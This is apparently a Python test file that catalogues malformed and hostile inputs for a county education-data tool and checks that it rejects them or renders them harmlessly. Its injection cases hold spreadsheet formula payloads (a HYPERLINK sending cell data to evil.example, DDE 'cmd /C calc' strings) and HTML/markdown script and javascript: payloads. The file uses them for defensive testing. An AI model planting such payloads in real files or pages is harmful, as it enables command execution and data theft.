"""A catalogue of hostile inputs (恶意或杂乱输入目录): each case builds its files in a fresh folder, names the
command an analyst would run on them, and says what junyun must answer.

``reject`` cases must exit 2 with a located message in Chinese and English (file, and where the case gives
them sheet, Excel row, header as written, value), write nothing and leave every input byte unchanged.
``accept`` cases must succeed (exit 0) and pass their own check; ``inject`` cases carry hostile names into
the outputs and check that each output shows them as inert text.  All data is synthetic.
"""
from __future__ import annotations

import re
import shutil
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import openpyxl

from _badinput_helpers import COUNTY, YEAR, ZH, base_table

REPO = Path(__file__).resolve().parents[1]
SLUG = "ceshixian"                     # the test county's folder; county.toml names it 测试县


@dataclass
class Expect:
    """What a case must produce."""

    status: int = 2
    file: str = ""                     # file name (or a part of the path) the message must name
    sheet: str = ""
    row: int | None = None
    column: str = ""                   # header as written
    value: str = ""
    zh: str = ""                       # a piece of the Chinese message
    en: str = ""                       # a piece of the English gloss
    check: Callable | None = None      # further check(root, stdout, stderr) for accept / inject cases


@dataclass
class Case:
    id: str
    kind: str                          # reject | accept | inject
    build: Callable[[Path], list[str]]  # builds files under root, returns the command line (argv)
    expect: Expect = field(default_factory=Expect)


CASES: list[Case] = []


def case(id: str, kind: str = "reject", **expect):
    def register(build):
        CASES.append(Case(id, kind, build, Expect(**expect)))
        return build
    return register


# ------------------------------------------------------------------------------------------- helpers
def folders(root: Path) -> tuple[Path, Path, Path]:
    """(data, county folder, outputs) of a case; the county folder has a county.toml for 测试县."""
    data, out = root / "data", root / "out"
    county = data / "raw" / SLUG
    county.mkdir(parents=True, exist_ok=True)
    if not (county / "county.toml").exists():
        (county / "county.toml").write_text(f'name = "{COUNTY}"\nslug = "{SLUG}"\n', encoding="utf-8")
    return data, county, out


def dirs(root: Path) -> list[str]:
    data, _, out = folders(root)
    return ["--data-dir", str(data), "--out", str(out)]


def ingest(path: Path, root: Path) -> list[str]:
    return ["ingest", str(path), *dirs(root)]


def evaluate(path: Path, root: Path, *extra: str) -> list[str]:
    return ["evaluate", str(path), "--json", str(root / "out" / "r.json"), *extra, *dirs(root)]


def school_xlsx(root: Path, edit=None, name: str = f"schools_{YEAR}.xlsx", **kw) -> Path:
    _, county, _ = folders(root)
    table = base_table()
    if edit:
        edit(table)
    return table.to_xlsx(county / name, **kw)


def school_csv(root: Path, edit=None, encoding: str = "utf-8", name: str = f"schools_{YEAR}.csv") -> Path:
    _, county, _ = folders(root)
    table = base_table()
    if edit:
        edit(table)
    return table.to_csv(county / name, encoding=encoding)


def cell(i: int, field_name: str, value):
    return lambda t: t.set(i, field_name, value)


def rewrite_zip(path: Path, member: str, change) -> Path:
    """Rewrite one member of an xlsx (zip) with ``change(bytes) -> bytes``."""
    with zipfile.ZipFile(path) as z:
        items = [(i, z.read(i.filename)) for i in z.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for info, data in items:
            z.writestr(info, change(data) if info.filename == member else data)
    return path


def sample_county(root: Path, slug: str = "xiangning", years=(2024,)) -> Path:
    """A copy of a sample county (county.toml, plan, county tables, school tables) in the case's data folder."""
    data = root / "data"
    folder = data / "raw" / slug
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("county.toml", "plan.csv"):
        shutil.copy(REPO / "data/raw" / slug / name, folder / name)
    for year in years:
        for name in (f"schools_{year}.xlsx", f"county_indicators_{year}.csv"):
            shutil.copy(REPO / "data/raw" / slug / name, folder / name)
    return folder


STUDENTS = ZH["students_primary"]
AREA = ZH["teaching_aux_area_m2"]
JUNIOR = ZH["students_junior"]
ROW = {i: i + 2 for i in range(4)}          # data row i (0-based) → Excel row


# ======================================================================== school table: number cells
for token in ("#N/A", "NaN", "NULL", "N/A", "-", "—", "/"):
    case(f"csv-null-token-{token}", zh="空值标记", en="null marker", row=ROW[2], column=JUNIOR, value=token)(
        lambda root, token=token: ingest(school_csv(root, cell(2, "students_junior", token)), root))
for token in ("#N/A", "NULL", "-"):
    case(f"xlsx-null-token-{token}", zh="空值标记", en="null marker", row=ROW[2], column=JUNIOR, value=token,
         sheet="学校数据")(lambda root, token=token: ingest(school_xlsx(root, cell(2, "students_junior", token)), root))

case("csv-decimal-comma", zh="逗号", en="comma", row=ROW[0], column=AREA, value="3000,5")(
    lambda root: ingest(school_csv(root, cell(0, "teaching_aux_area_m2", "3000,5")), root))
case("xlsx-fullwidth-decimal-comma", zh="逗号", en="comma", row=ROW[0], column=AREA)(
    lambda root: ingest(school_xlsx(root, cell(0, "teaching_aux_area_m2", "3000，5")), root))
case("xlsx-1e19-students", zh="超出", en="", row=ROW[0], column=STUDENTS)(
    lambda root: ingest(school_xlsx(root, cell(0, "students_primary", 1e19)), root))
case("csv-1e19-students", zh="超出", row=ROW[0], column=STUDENTS, value="1e19")(
    lambda root: ingest(school_csv(root, cell(0, "students_primary", "1e19")), root))
case("csv-inf", row=ROW[0], column=AREA, value="inf", zh="不是数字")(
    lambda root: ingest(school_csv(root, cell(0, "teaching_aux_area_m2", "inf")), root))
case("csv-1e308-area", zh="超出", row=ROW[0], column=AREA, value="1e308")(
    lambda root: ingest(school_csv(root, cell(0, "teaching_aux_area_m2", "1e308")), root))
case("csv-1e999-area", row=ROW[0], column=AREA, value="1e999")(
    lambda root: ingest(school_csv(root, cell(0, "teaching_aux_area_m2", "1e999")), root))
case("csv-text-in-number", zh="不是数字", en="not a number", row=ROW[1], column=JUNIOR, value="九百")(
    lambda root: ingest(school_csv(root, cell(1, "students_junior", "九百")), root))
case("csv-two-points", zh="不是数字", row=ROW[1], column=JUNIOR, value="9.0.0")(
    lambda root: ingest(school_csv(root, cell(1, "students_junior", "9.0.0")), root))
case("csv-hex", zh="不是数字", row=ROW[1], column=JUNIOR, value="0x384")(
    lambda root: ingest(school_csv(root, cell(1, "students_junior", "0x384")), root))
case("csv-underscore-digits", zh="不是数字", row=ROW[1], column=JUNIOR, value="9_00")(
    lambda root: ingest(school_csv(root, cell(1, "students_junior", "9_00")), root))
case("xlsx-negative", zh="负数", en="negative", row=ROW[0], column=STUDENTS, value="-600")(
    lambda root: ingest(school_xlsx(root, cell(0, "students_primary", -600)), root))
case("xlsx-fractional-count", zh="整数", en="whole number", row=ROW[0], column=STUDENTS, value="600.5")(
    lambda root: ingest(school_xlsx(root, cell(0, "students_primary", 600.5)), root))
case("xlsx-boolean-in-number", zh="逻辑值", en="logical", row=ROW[0], column=STUDENTS)(
    lambda root: ingest(school_xlsx(root, cell(0, "students_primary", True)), root))


def _date_cell(t):
    import datetime
    t.set(0, "students_primary", datetime.date(2023, 9, 1))


case("xlsx-date-in-number", zh="日期", en="date", row=ROW[0], column=STUDENTS)(
    lambda root: ingest(school_xlsx(root, _date_cell), root))
case("xlsx-year-out-of-range", zh="年份", row=ROW[0], column=ZH["built_year"], value="1800")(
    lambda root: ingest(school_xlsx(root, cell(0, "built_year", 1800)), root))
case("xlsx-unknown-category", zh="允许的取值", en="allowed", row=ROW[0], column=ZH["school_type"], value="小学校")(
    lambda root: ingest(school_xlsx(root, cell(0, "school_type", "小学校")), root))
case("xlsx-blank-required", zh="必填", en="blank", row=ROW[0], column=ZH["school_name"])(
    lambda root: ingest(school_xlsx(root, cell(0, "school_name", None)), root))


def _uncalculated(root: Path) -> list[str]:
    path = school_xlsx(root)
    book = openpyxl.load_workbook(path)
    sheet = book["学校数据"]
    column = [c.value for c in sheet[1]].index(STUDENTS) + 1
    sheet.cell(2, column).value = "=300+300"            # written by a program: no calculated value stored
    book.save(path)
    return ingest(path, root)


case("xlsx-formula-without-value", zh="公式", en="formula", row=2, column=STUDENTS)(_uncalculated)


def _merged(root: Path) -> list[str]:
    path = school_xlsx(root)
    book = openpyxl.load_workbook(path)
    sheet = book["学校数据"]
    column = [c.value for c in sheet[1]].index(ZH["urban_rural"]) + 1
    sheet.merge_cells(start_row=2, start_column=column, end_row=3, end_column=column)
    book.save(path)
    return ingest(path, root)


case("xlsx-merged-cells", zh="合并", en="merged", row=3, column=ZH["urban_rural"])(_merged)


def _ragged(root: Path) -> list[str]:
    path = school_csv(root)
    lines = path.read_text(encoding="utf-8").splitlines()
    lines[2] += ",多出来的,单元格"
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    return ingest(path, root)


case("csv-ragged-row", zh="单元格", row=3)(_ragged)


def _unbalanced_quote(root: Path) -> list[str]:
    path = school_csv(root)
    lines = path.read_text(encoding="utf-8").splitlines()
    lines[3] = lines[3].replace("示例九年一贯制学校", '"示例九年一贯制学校', 1)
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    return ingest(path, root)


case("csv-unbalanced-quote", zh="引号", en="quote", row=4)(_unbalanced_quote)


def _cr_only(root: Path) -> list[str]:
    path = school_csv(root, cell(3, "students_junior", "四百"))
    path.write_bytes(path.read_bytes().replace(b"\r\n", b"\r"))
    return ingest(path, root)


case("csv-cr-only-line-ends", zh="不是数字", row=ROW[3], column=JUNIOR, value="四百")(_cr_only)


def _corrupt_sheet(root: Path) -> list[str]:
    path = school_xlsx(root)
    return ingest(rewrite_zip(path, "xl/worksheets/sheet1.xml", lambda b: b[: len(b) // 2]), root)


case("xlsx-corrupt-sheet-xml", zh="无法")(_corrupt_sheet)


def _xls(root: Path) -> list[str]:
    _, county, _ = folders(root)
    path = county / f"schools_{YEAR}.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512)
    return ingest(path, root)


case("old-xls-file", zh="文件类型")(_xls)


def _encrypted(root: Path) -> list[str]:
    _, county, _ = folders(root)
    path = county / f"schools_{YEAR}.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2048)   # what Excel writes for a password
    return ingest(path, root)


case("password-protected-xlsx", zh="无法")(_encrypted)


def _empty_csv(root: Path) -> list[str]:
    _, county, _ = folders(root)
    path = county / f"schools_{YEAR}.csv"
    path.write_bytes(b"")
    return ingest(path, root)


case("empty-csv", zh="空")(_empty_csv)


def _zip_as_csv(root: Path) -> list[str]:
    path = school_xlsx(root)
    target = path.with_suffix(".csv")
    path.rename(target)
    return ingest(target, root)


case("xlsx-renamed-csv", zh="不是文本")(_zip_as_csv)
case("utf16-csv-bad-value", zh="不是数字", row=ROW[1], column=JUNIOR, value="九百")(
    lambda root: ingest(school_csv(root, cell(1, "students_junior", "九百"), encoding="utf-16"), root))
case("gbk-csv-bad-value", zh="不是数字", row=ROW[1], column=JUNIOR, value="九百")(
    lambda root: ingest(school_csv(root, cell(1, "students_junior", "九百"), encoding="gbk"), root))


def _undecodable(root: Path) -> list[str]:
    path = school_csv(root)
    path.write_bytes(path.read_bytes() + b"\xff\xfe\xfa broken \x81\n")
    return ingest(path, root)


case("undecodable-csv", zh="编码", en="decode")(_undecodable)
case("near-miss-header", zh="是否应为", row=1, column="小学在校学生数")(
    lambda root: ingest(school_xlsx(root, lambda t: t.rename("students_primary", "小学在校学生数")), root))
case("missing-required-column", zh="缺少必需的列", en="missing")(
    lambda root: ingest(school_xlsx(root, lambda t: t.drop("classes_primary")), root))
case("no-header-row", zh="表头")(
    lambda root: ingest(school_xlsx(root, lambda t: t.rename("school_id", "编号")), root))


def _empty_sheet(root: Path) -> list[str]:
    _, county, _ = folders(root)
    path = county / f"schools_{YEAR}.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "学校数据"
    book.save(path)
    return ingest(path, root)


case("empty-sheet", zh="空")(_empty_sheet)


def _duplicate_across_files(root: Path) -> list[str]:
    a = school_xlsx(root, name="schools_2023.xlsx")
    b = school_xlsx(root, lambda t: [t.set(i, "school_id", f"390000000{i}") for i in (1, 2, 3)], name="extra.xlsx")
    return ["ingest", str(a), str(b), *dirs(root)]


case("duplicate-id-across-files", zh="重复", file="schools_2023.xlsx", value="3601000001",
     check=lambda root, out, err: "extra.xlsx" in err)(_duplicate_across_files)

# ====================================================================================== county.toml
def _county_toml(text: str):
    def build(root: Path) -> list[str]:
        path = school_xlsx(root)
        (path.parent / "county.toml").write_text(text, encoding="utf-8")
        return ingest(path, root)
    return build


case("county-toml-syntax-error", file="county.toml", zh="TOML", row=2)(_county_toml('name = "测试县"\nslug = \n'))
case("county-toml-without-name", file="county.toml", column="name", zh="名称")(_county_toml(f'slug = "{SLUG}"\n'))
case("county-toml-absolute-slug", file="county.toml", column="slug", value="/var/x", zh="简称")(
    _county_toml('name = "测试县"\nslug = "/var/x"\n'))
case("county-toml-parent-slug", file="county.toml", column="slug", value="../x", zh="简称")(
    _county_toml('name = "测试县"\nslug = "../x"\n'))
case("county-toml-slug-not-folder", file="county.toml", column="slug", value="other", zh="文件夹")(
    _county_toml('name = "测试县"\nslug = "other"\n'))


def _county_toml_binary(root: Path) -> list[str]:
    path = school_xlsx(root)
    (path.parent / "county.toml").write_bytes(b"name = \"\xff\xfe\x81\"\n")
    return ingest(path, root)


case("county-toml-undecodable", file="county.toml", zh="编码")(_county_toml_binary)

# =========================================================================================== plans
PLAN_HEADER = "item_no,item,category,year,target,direction,unit,metric,stage,stated,source,note"


def _plan(*rows: str, encoding: str = "utf-8"):
    def build(root: Path) -> list[str]:
        data, county, out = folders(root)
        (county / "plan.csv").write_bytes(("\n".join([PLAN_HEADER, *rows]) + "\n").encode(encoding))
        return ["plan", COUNTY, "--json", str(out / "plan.json"), *dirs(root)]
    return build


GOOD_PLAN_ROW = "1,骨干教师达标,资源配置,2023,65,>=,%,indicator_share:key_teachers,all,yes,测试,"
case("plan-gbk-bad-target", file="plan.csv", row=3, column="target", value="很多")(
    _plan(GOOD_PLAN_ROW, "1,骨干教师达标,资源配置,2024,很多,>=,%,indicator_share:key_teachers,all,yes,测试,",
          encoding="gbk"))
case("plan-target-1e999", file="plan.csv", row=2, column="target", value="1e999")(
    _plan("1,x,c,2023,1e999,>=,%,indicator_share:key_teachers,all,yes,测试,"))
case("plan-target-inf", file="plan.csv", row=2, column="target", value="inf")(
    _plan("1,x,c,2023,inf,>=,%,indicator_share:key_teachers,all,yes,测试,"))
case("plan-target-over-100-percent", file="plan.csv", row=2, column="target", value="150")(
    _plan("1,x,c,2023,150,>=,%,indicator_share:key_teachers,all,yes,测试,"))
case("plan-unknown-metric", file="plan.csv", row=2, column="metric")(
    _plan("1,x,c,2023,65,>=,%,indicator_share:no_such_code,all,yes,测试,"))
case("plan-unbalanced-quote", file="plan.csv", zh="引号", row=2)(
    _plan('1,"x,c,2023,65,>=,%,indicator_share:key_teachers,all,yes,测试,'))


def _plan_without_target(root: Path) -> list[str]:
    data, county, out = folders(root)
    (county / "plan.csv").write_text("item_no,item,year\n1,x,2023\n", encoding="utf-8")
    return ["plan", COUNTY, "--json", str(out / "plan.json"), *dirs(root)]


case("plan-missing-column", file="plan.csv", zh="缺少", row=1)(_plan_without_target)


# ============================================================================= county-level tables
CT_HEADER = "指标代码,指标名称,数值,单位,来源,说明"


def _county_table(*rows: str, name: str = "county_indicators_2023.csv", encoding: str = "utf-8"):
    def build(root: Path) -> list[str]:
        data, county, out = folders(root)
        (county / "plan.csv").write_text(f"{PLAN_HEADER}\n{GOOD_PLAN_ROW}\n", encoding="utf-8")
        (county / name).write_bytes(("\n".join([CT_HEADER, *rows]) + "\n").encode(encoding))
        return ["plan", COUNTY, "--json", str(out / "plan.json"), *dirs(root)]
    return build


case("county-table-decimal-comma", file="county_indicators_2023.csv", row=2, column="数值", value="96,5", zh="逗号")(
    _county_table('junior_retention,,"96,5",%,教育局,'))
case("county-table-nan", file="county_indicators_2023.csv", row=2, column="数值", value="NaN")(
    _county_table("junior_retention,,NaN,%,教育局,"))
case("county-table-inf", file="county_indicators_2023.csv", row=2, column="数值", value="inf")(
    _county_table("junior_retention,,inf,%,教育局,"))
case("county-table-unknown-code", file="county_indicators_2023.csv", row=2, column="指标代码",
     value="junior_retentoin", zh="是否为")(_county_table("junior_retentoin,,96,%,教育局,"))
case("county-table-out-of-range", file="county_indicators_2023.csv", row=2, column="数值", value="150")(
    _county_table("junior_retention,,150,%,教育局,"))
case("county-table-yes-no", file="county_indicators_2023.csv", row=2, column="数值", value="也许")(
    _county_table("layout_reasonable,,也许,是否,教育局,"))
case("county-table-gbk-bad", file="county_indicators_2023.csv", row=3, column="数值", value="很高")(
    _county_table("junior_retention,,96,%,教育局,", "teacher_pay,,很高,%,教育局,", encoding="gbk"))


def _county_table_corrupt_xlsx(root: Path) -> list[str]:
    data, county, out = folders(root)
    (county / "plan.csv").write_text(f"{PLAN_HEADER}\n{GOOD_PLAN_ROW}\n", encoding="utf-8")
    (county / "county_indicators_2023.xlsx").write_bytes(b"PK\x03\x04 this is not really a workbook")
    return ["plan", COUNTY, "--json", str(out / "plan.json"), *dirs(root)]


case("county-table-corrupt-xlsx", file="county_indicators_2023.xlsx")(_county_table_corrupt_xlsx)

# ===================================================================================== unit costs
def _costs(text: str, encoding: str = "utf-8", name: str = "costs.csv"):
    def build(root: Path) -> list[str]:
        path = school_xlsx(root)
        costs = path.parent / name
        costs.write_bytes(text.encode(encoding))
        return evaluate(path, root, "--costs", str(costs))
    return build


COSTS_HEADER = "indicator,unit_zh,cost_wan_per_unit,basis_zh,basis_en"
case("costs-negative", file="costs.csv", row=2, column="cost_wan_per_unit", value="-1")(
    _costs(f"{COSTS_HEADER}\nkey_teachers,人,-1,示例,example\n"))
case("costs-inf", file="costs.csv", row=2, column="cost_wan_per_unit", value="inf")(
    _costs(f"{COSTS_HEADER}\nkey_teachers,人,inf,示例,example\n"))
case("costs-unknown-indicator", file="costs.csv", row=2, column="indicator", value="key_teacher")(
    _costs(f"{COSTS_HEADER}\nkey_teacher,人,2,示例,example\n"))
case("costs-gbk-bad-value", file="costs.csv", row=2, column="cost_wan_per_unit", value="两万")(
    _costs(f"{COSTS_HEADER}\nkey_teachers,人,两万,示例,example\n", encoding="gbk"))


def _costs_missing(root: Path) -> list[str]:
    path = school_xlsx(root)
    return evaluate(path, root, "--costs", str(path.parent / "no-such-costs.csv"))


case("costs-missing-file", file="no-such-costs.csv", zh="不存在")(_costs_missing)

# ========================================================================================= parquet
def _fake_parquet(root: Path) -> list[str]:
    data, _, out = folders(root)
    path = data / "processed" / SLUG / "2023.parquet"
    path.parent.mkdir(parents=True)
    path.write_bytes(b"PAR1 but not really")
    return evaluate(path, root)


case("not-parquet", file="2023.parquet", zh="处理后数据")(_fake_parquet)

# ========================================================================================= imports
def _exports(root: Path):
    import _exports as ex

    data, county, out = folders(root)
    files, _ = ex.import_files(county / "exports", ex.LAYOUT_2021)      # stage files + 补充数据.csv beside them
    return ex, files


def _import_argv(ex, files, root: Path, *extra: str) -> list[str]:
    data, county, out = folders(root)
    return ["import", *map(str, files), "--supplement", str(Path(files[0]).parent / "补充数据.csv"), "--year",
            str(ex.YEAR), "--county", ex.COUNTY, "--out", str(county / "schools_2023.xlsx"), "--data-dir", str(data),
            "--outputs-dir", str(out), *extra]


def _import_missing(root: Path) -> list[str]:
    ex, files = _exports(root)
    return _import_argv(ex, [files[0], files[0].with_name("no-such-export.xlsx")], root)


def _import_truncated(root: Path) -> list[str]:
    ex, files = _exports(root)
    files[1].write_bytes(files[1].read_bytes()[:300])
    return _import_argv(ex, files, root)


def _import_campus_map(text: str | None):
    def build(root: Path) -> list[str]:
        ex, files = _exports(root)
        campus = files[0].parent / "campus.csv"
        if text is not None:
            campus.write_text(text, encoding="utf-8")
        return _import_argv(ex, files, root, "--merge-campuses", "--campus-map", str(campus))
    return build


def _import_mapping(text: str):
    def build(root: Path) -> list[str]:
        ex, files = _exports(root)
        mapping = files[0].parent / "mine.toml"
        mapping.write_text(text, encoding="utf-8")
        return _import_argv(ex, files, root, "--mapping", str(mapping))
    return build


case("import-missing-export", file="no-such-export.xlsx", zh="不存在")(_import_missing)
case("import-truncated-export", zh="无法")(_import_truncated)
case("import-missing-campus-map", file="campus.csv", zh="不存在")(_import_campus_map(None))
case("import-one-column-campus-map", file="campus.csv", zh="列")(_import_campus_map("校区标识码\n3601001001\n"))
case("import-mapping-toml-error", file="mine.toml", zh="TOML", row=1)(_import_mapping('name = "mine\n'))
case("import-mapping-missing-table", file="mine.toml", zh="缺少")(_import_mapping('name = "mine"\nversion = "1"\n'))

# ================================================================================ command-line misuse
def _argv(*args: str):
    def build(root: Path) -> list[str]:
        path = school_xlsx(root)
        return [a.replace("{file}", str(path)).replace("{root}", str(root)) for a in args] + dirs(root)
    return build


case("workers-negative", zh="正整数", en="positive")(_argv("batch", "--workers", "-1"))
case("workers-zero", zh="正整数")(_argv("run", "--workers", "0"))
case("template-to-csv", zh=".xlsx", file="t.csv")(_argv("template", "{root}/out/t.csv"))
case("evaluate-excel-onto-input", zh="覆盖输入文件", en="overwrite an input")(
    _argv("evaluate", "{file}", "--excel", "{file}"))
case("evaluate-json-into-raw", zh="原始数据目录", en="raw-data folder")(
    _argv("evaluate", "{file}", "--json", "{root}/data/raw/r.json"))
case("evaluate-excel-over-a-folder", zh="文件夹", en="folder")(_argv("evaluate", "{file}", "--excel", "{root}"))
case("evaluate-a-folder", zh="文件夹", en="folder")(_argv("evaluate", "{root}"))
case("evaluate-year-not-in-data", zh="2019", en="not in the data")(_argv("evaluate", "{file}", "--year", "2019"))
case("evaluate-county-not-in-data", zh="不存在县", en="not in the data")(
    _argv("evaluate", "{file}", "--county", "不存在县"))
case("unknown-standard", zh="", en="invalid choice")(_argv("evaluate", "{file}", "--standard", "quality-2030"))


# ================================================================= accepted, with what must be kept
def _value_read(field_name: str, expected: float):
    def check(root, out, err):
        from junyun_lib.io.processed import read_processed

        (parquet,) = (root / "data" / "processed").rglob("*.parquet")
        frame = read_processed(parquet).frame.sort_values("school_id")
        assert float(frame[field_name].iloc[0]) == expected, frame[field_name].iloc[0]
        return True
    return check


case("accept-thousands-grouping", "accept", status=0, check=_value_read("equipment_value_yuan", 1_500_000.0))(
    lambda root: ingest(school_csv(root, cell(0, "equipment_value_yuan", "1,500,000")), root))
case("accept-fullwidth-digits", "accept", status=0,
     check=lambda root, out, err: _value_read("students_primary", 600.0)(root, out, err) and "全角" in out + err)(
    lambda root: ingest(school_xlsx(root, cell(0, "students_primary", "６００")), root))
case("accept-spaces-around-number", "accept", status=0, check=_value_read("students_primary", 600.0))(
    lambda root: ingest(school_csv(root, cell(0, "students_primary", "  600 ")), root))


def _all_excluded(root: Path) -> list[str]:
    def only_special(t):
        for i in range(4):
            t.set(i, "school_type", "特殊教育学校")
            t.set(i, "students_senior", None)
    return evaluate(school_xlsx(root, only_special), root)


def _all_excluded_check(root, out, err):
    import json

    doc = json.loads((root / "out" / "r.json").read_text(encoding="utf-8"))
    (res,) = doc["results"]
    return len(res["excluded"]) == 4 and res["stages"]["primary"]["schools_in_scope"] == 0


case("accept-county-with-every-school-excluded", "accept", status=0, check=_all_excluded_check)(_all_excluded)

# =========================================================================== hostile names into outputs
HOSTILE_NAMES = {
    "formula-hyperlink": '=HYPERLINK("http://evil.example/?d="&B2,"点我")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "markdown-js-link": "[点我](javascript:alert(1))",
    "markdown-remote-image": "![x](http://evil.example/x.png)",
    "bare-url": "http://evil.example/学校",
    "mathtext": "$\\frac{a}{b}$学校",
    "odd-dollars": "学校$2$3$",
    "html-script": "<script>alert(1)</script>",
}


def _names_workbook(root: Path) -> list[str]:
    def rename(t):
        for i, name in enumerate(list(HOSTILE_NAMES.values())[:4]):
            t.set(i, "school_name", name)
    path = school_xlsx(root, rename)
    return ["evaluate", str(path), "--excel", str(root / "out" / "r.xlsx"), *dirs(root)]


def _no_formula_and_exact(root, out, err):
    book = openpyxl.load_workbook(root / "out" / "r.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell from the data"
    values = {c.value for c in cells if isinstance(c.value, str)}
    return all(name in values for name in list(HOSTILE_NAMES.values())[:4])


case("inject-names-into-excel", "inject", status=0, check=_no_formula_and_exact)(_names_workbook)


def _names_briefing(root: Path) -> list[str]:
    """Two counties in one batch: 测试县 with hostile school names, and a county with no county.toml whose name
    holds every character a file name cannot."""
    names = list(HOSTILE_NAMES.values())

    def rename(t):
        for i in range(4):
            t.set(i, "school_name", " ".join(names[i::4]))
    school_xlsx(root, rename)
    data, _, out = folders(root)
    odd = data / "raw" / "odd"
    odd.mkdir()
    base = base_table(county=ODD_COUNTY)
    base.to_xlsx(odd / f"schools_{YEAR}.xlsx")
    return ["run", "--workers", "1", *dirs(root)]


ODD_COUNTY = '测试<县>:"/\\|?* 名'


def _briefing_is_inert(root, out, err):
    from junyun_lib.report.html_export import external_references

    pages = sorted((root / "out" / str(YEAR)).glob("*.html"))
    assert len(pages) == 3, pages                      # two briefings and the index
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert external_references(html) == [], (page.name, external_references(html))
        # a name may show as text ("…javascript:…" in a table cell); it must never be a link or a script
        assert not re.search(r"(?i)\b(?:href|src|action|formaction|data)\s*=\s*[\"']?\s*javascript:", html)
        assert "<script>alert" not in html
    text = "".join(p.read_text(encoding="utf-8") for p in pages)
    assert "测试县" in text and "测试&lt;县&gt;" in text
    return True


case("inject-names-into-briefings", "inject", status=0, check=_briefing_is_inert)(_names_briefing)
